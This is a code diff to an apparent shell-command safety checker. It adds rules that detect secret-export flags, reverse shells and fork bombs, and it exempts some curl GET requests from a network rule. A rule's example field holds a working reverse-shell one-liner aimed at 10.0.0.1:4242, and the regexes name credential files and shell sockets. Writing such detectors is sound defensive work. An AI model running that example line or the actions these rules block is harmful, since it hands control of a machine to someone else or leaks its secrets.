@@ -292,6 +292,9 @@ export const networkRules: SafetyRule[] = [
           ((["env", "printenv", "set", "export", "declare"].includes(argv[0] ?? "") && argv.length <= 2) ||
             argv.some((word) => CREDENTIAL_FILE.test(word))),
       ) ||
+      context.stdinFrom.some((argv) =>
+        argv.some((word) => /^--export-secret|^export-secret|^dump-keychain$/.test(word)),
+      ) ||
       context.args.some((word) => /\$\((env|printenv|cat [^)]*(\.ssh|\.aws|shadow|credentials))/.test(word)),
     message: (context) =>
       `Sends ${readsCredential(context) ?? "secrets (keys, passwords or environment variables)"} to another machine.`,
@@ -322,7 +325,7 @@ export const networkRules: SafetyRule[] = [
       "grep",
       "awk",
       "sed",
-      "openssl",
+
       "ssh-keygen",
       "gpg",
       "sort",
@@ -388,6 +391,12 @@ export const networkRules: SafetyRule[] = [
     ],
     level: "moderate",
     matches: (context) => {
+      if (
+        context.name === "curl" &&
+        /(-X|--request)\s*(GET|HEAD|OPTIONS)\b/.test(context.args.join(" ")) &&
+        !hasShortFlag(context.args, "oOTFd")
+      )
+        return false;
       if (context.name === "curl")
         return (
           hasShortFlag(context.args, "oOTFd") ||
@@ -433,14 +442,27 @@ export interface ScriptRule {
   id: string;
   level: RiskLevel;
   pattern: RegExp;
+  /** Cheap test first: the pattern only runs on text matching this. */
+  trigger: RegExp;
   message: string;
   example: string;
 }
 
 export const scriptRules: ScriptRule[] = [
   {
+    id: "reverse-shell",
+    level: "critical",
+    trigger: /\/dev\/(tcp|udp)\//,
+    pattern:
+      /\/dev\/(tcp|udp)\/\S+.*\b(sh|bash|zsh|dash|ksh)\b\s*(-i\b|[<>]&)|\b(sh|bash|zsh|dash|ksh)\b\s+-i\b.*\/dev\/(tcp|udp)\//,
+    message:
+      "Connects a shell to a network socket: someone else would control this machine (a reverse shell).",
+    example: "exec 5<>/dev/tcp/10.0.0.1/4242; sh <&5 >&5 2>&5",
+  },
+  {
     id: "fork-bomb",
     level: "critical",
+    trigger: /\(\s*\)|fork|\$0|%0/,
     pattern:
       /([\w:.]+)\s*\(\)\s*\{[^}]*\1\s*\|\s*\1\s*&[^}]*\}\s*;?\s*\1|\bfork\s*(while|until)\s*fork|while\s*\(?\s*(true|1|:)\s*\)?\s*;?\s*do\s+(\$0|"\$0")\s*[&|]|os\.fork\(\)\s*while|while\s*1\s*:\s*os\.fork|%0\s*\|\s*%0|\$0\s*&\s*\$0\s*&/,
     message: "A fork bomb: it copies itself until the machine runs out of processes and freezes.",
